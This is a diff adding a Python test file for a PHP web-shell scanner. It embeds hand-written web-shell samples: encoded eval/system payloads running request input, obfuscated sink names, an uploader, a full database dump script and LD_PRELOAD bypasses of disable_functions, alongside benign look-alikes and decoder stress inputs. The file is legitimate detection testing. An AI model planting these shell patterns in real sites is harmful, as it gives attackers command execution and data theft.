@@ -1,0 +1,177 @@
+"""PHP web-shell shapes of issue 11's third tuning round: encoded payloads a file carries without the
+reader seeing them run, sinks whose names are spelled to hide them, whole-database dump scripts and
+LD_PRELOAD bypasses of disable_functions; each next to a benign look-alike that must stay clean,
+and the hostile inputs of the payload decoder. Samples are written here, none is copied from a
+collection."""
+
+from __future__ import annotations
+
+import base64
+import time
+import zlib
+
+from agent.imagegate import webshell
+from agent.imagegate.webshell import THRESHOLD
+from agent.imagegate.webshell.php_payloads import decode
+
+
+def _hits(code: str, name: str = "x.php"):
+    return webshell.scan(name, code.encode("latin-1"))
+
+
+def _shell(code: str, *, rule: str = "", sink: str = "", source: str = ""):
+    hs = _hits(code)
+    assert hs, f"no hit for {code!r:.200}"
+    h = max(hs, key=lambda h: h.confidence)
+    assert h.confidence >= THRESHOLD, hs
+    if rule:
+        assert h.rule == rule, hs
+    if sink:
+        assert sink in h.sink, h
+    if source:
+        assert source in h.source, h
+    assert h.snippet, h
+    return h
+
+
+def _clean(code: str):
+    hs = _hits(code)
+    assert not webshell.is_shell(hs), [h for h in hs if h.confidence >= THRESHOLD]
+
+
+def _b64(s: str) -> str:
+    return base64.b64encode(s.encode()).decode()
+
+
+# -- encoded payloads -------------------------------------------------------------------------------
+def test_a_hex_payload_printed_for_another_page_to_include():
+    # a relay that serves its shell as hex: nothing here runs it, the constant says what it is
+    code = "assert($_POST['q']);".encode().hex()
+    h = _shell(f"<?php if ($_GET['k'] == 'code') echo sprintf('{code}');", rule="php.encoded-payload")
+    assert "$_POST['q']" in h.source and "assert" in h.snippet
+
+
+def test_a_base64_payload_handed_to_a_callee_we_cannot_name():
+    # the decoder's name is a bareword PHP cannot resolve the way the author meant: the callee is unknown
+    payload = _b64("if(isset($_COOKIE['c'])){system(base64_decode($_COOKIE['c']));}")
+    spaced = " ".join(payload)
+    h = _shell(f"<?php $b = strrev(ZEDOCED); $c = 'x'; $c($b(str_replace(' ', '', '{spaced}')));",
+               rule="php.encoded-payload")
+    assert "$_COOKIE['c']" in h.source
+
+
+def test_a_payload_split_by_a_broken_quote_is_read_from_the_text():
+    payload = _b64("$d = $_REQUEST['d']; eval($d);" + " " * 40)
+    _shell(f'<?php $x = "eval(base64_decode("{payload}"));"; $y = 1;', rule="php.encoded-payload")
+
+
+def test_a_compressed_payload():
+    raw = zlib.compress(b"<?php @eval($_POST['p']); ?>")[2:-4]  # raw deflate, as gzdeflate writes it
+    enc = base64.b64encode(raw).decode()
+    _shell(f"<?php $blob = '{enc}'; $f = $_GET['f']; echo strlen($blob);", rule="php.encoded-payload")
+
+
+def test_base64_data_in_ordinary_code_is_clean():
+    png = base64.b64encode(bytes(range(256)) * 4).decode()
+    _clean(f"<?php $img = '{png}'; header('Content-Type: image/png'); echo base64_decode($img);")
+    # encoded text that is code but runs no request data: a template, a snippet shown in docs
+    snippet = _b64("<?php echo htmlspecialchars($title); ?>")
+    _clean(f"<?php $tpl = '{snippet}'; echo htmlspecialchars(base64_decode($tpl));")
+    # a key, a hash, a long identifier
+    _clean("<?php const KEY = 'MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0';"
+           " $h = 'd41d8cd98f00b204e9800998ecf8427ed41d8cd98f00b204e9800998ecf8427e'; echo KEY, $h;")
+
+
+def test_decode_rejects_what_is_not_encoded_code():
+    assert decode("abcdefghijklmnopqrstuvwxyzabcdefghijkl") is None  # letters only: a word, not base64
+    assert decode(_b64("just some prose that is long enough to be looked at")) is None
+    assert decode(_b64("system($_GET['x']);")) is not None
+    assert decode("system($_GET['x']);".encode().hex()) is not None
+
+
+def test_hostile_payloads_end_in_bounded_time():
+    # a thousand distinct encoded constants that each decode to PHP: at most MAX_CANDIDATES are read
+    texts = ["$v%d = $_GET[%d]; echo system($v%d);" % (i, i, i) for i in range(1000)]
+    parts = ["'" + _b64(t) + "'" for t in texts]
+    t = time.process_time()
+    hs = _hits("<?php $a = array(" + ", ".join(parts) + ");")
+    assert time.process_time() - t < 10
+    assert webshell.is_shell(hs)
+    # a deflate bomb behind base64: the inflate is capped, the result is junk, nothing is found
+    bomb = base64.b64encode(zlib.compress(b"\0" * (64 << 20), 9)).decode()
+    t = time.process_time()
+    _clean(f"<?php $x = '{bomb}';")
+    assert time.process_time() - t < 10
+    # nested payloads: each layer decodes to another layer (bounded by the decode depth)
+    layer = "system($_GET['c']);"
+    for _ in range(30):
+        layer = f"$z = '{_b64(layer)}';"
+    hs = _hits("<?php " + layer)
+    assert all(h.rule != "reader-error" for h in hs), hs
+
+
+# -- sinks spelled to hide them ---------------------------------------------------------------------
+def test_a_sink_name_picked_out_of_a_scrambled_alphabet():
+    h = _shell("<?php $a = 'sewtemznypianol'; $f = $a{0}.$a{8}.$a{0}.$a{3}.$a{1}.$a{5}; echo $f('id');",
+               rule="php.hidden-sink", sink="system")
+    assert "pick" in h.snippet
+
+
+def test_a_sink_name_reversed_with_a_constant_command():
+    _shell("<?php $f = strrev('metsys'); $f(base64_decode('aWQ='));", rule="php.hidden-sink", sink="system")
+
+
+def test_a_function_table_of_hex_names_decoded_in_a_loop():
+    names = ", ".join(f"'{n.encode().hex()}'" for n in ("getcwd", "move_uploaded_file", "is_dir"))
+    code = (f"<?php $fc = array({names}); for ($i = 0; $i < count($fc); $i++) $fc[$i] = hex2bin($fc[$i]);"
+            " $fc[1]($_FILES['f']['tmp_name'], $_POST['d']);")
+    _shell(code, rule="php.uploader")
+
+
+def test_characters_picked_for_ordinary_uses_are_clean():
+    _clean("<?php $s = 'system'; if ($s[0] == 's') { echo ucfirst($s); } $f = 'system'; $f('uptime');")
+    _clean("<?php $w = 'hello'; $f = $w[0] . $w[1]; echo $f; $g = 'str' . 'toupper'; echo $g($_GET['q']);")
+
+
+# -- database dumps ---------------------------------------------------------------------------------
+_DUMP = """<?php
+$link = mysql_connect('localhost', 'root', 'secret');
+mysql_select_db('shop');
+$out = '';
+$q = mysql_query('SHOW TABLES');
+while ($t = mysql_fetch_array($q)) {
+    $table = $t[0];
+    $c = mysql_fetch_array(mysql_query("SHOW CREATE TABLE `$table`"));
+    $out .= $c[1] . ";\\n";
+    $rows = mysql_query("SELECT * FROM `$table`");
+    while ($r = mysql_fetch_assoc($rows)) { $out .= "INSERT INTO `$table` VALUES ('" . implode("','", $r) . "');\\n"; }
+}
+$fp = fopen(date('Ymd') . '.sql', 'w'); fputs($fp, $out); fclose($fp);
+"""
+
+
+def test_a_flat_script_dumping_every_table():
+    _shell(_DUMP, rule="php.db-dump")
+
+
+def test_a_backup_class_and_a_single_table_page_are_clean():
+    _clean("<?php class Backup { function run($db) { $q = mysql_query('SHOW TABLES');"
+           " while ($t = mysql_fetch_array($q)) { $r = mysql_query(\"SELECT * FROM `$t[0]`\"); } } }")
+    _clean("<?php $q = mysql_query('SHOW TABLES'); while ($t = mysql_fetch_array($q)) echo $t[0];"
+           " $r = mysql_query('SELECT * FROM users WHERE id = ' . intval($_GET['id']));")
+
+
+# -- LD_PRELOAD -------------------------------------------------------------------------------------
+def test_ld_preload_through_putenv_and_mail():
+    _shell("<?php file_put_contents('/tmp/x.so', base64_decode($_POST['so'])); putenv('LD_PRELOAD=/tmp/x.so');"
+           " mail('a@b', '', '', '');", rule="php.ld-preload", sink="putenv")
+
+
+def test_ld_preload_in_proc_opens_environment():
+    _shell("<?php $env = array('LD_PRELOAD' => '/tmp/s.so'); proc_open('true', array(), $p, '/tmp', $env);",
+           rule="php.ld-preload", sink="proc_open")
+
+
+def test_ordinary_environment_settings_are_clean():
+    _clean("<?php putenv('TZ=UTC'); putenv('LANG=C'); $env = array('PATH' => '/usr/bin');"
+           " $p = proc_open('date', array(1 => array('pipe', 'w')), $pipes, '/tmp', $env);")
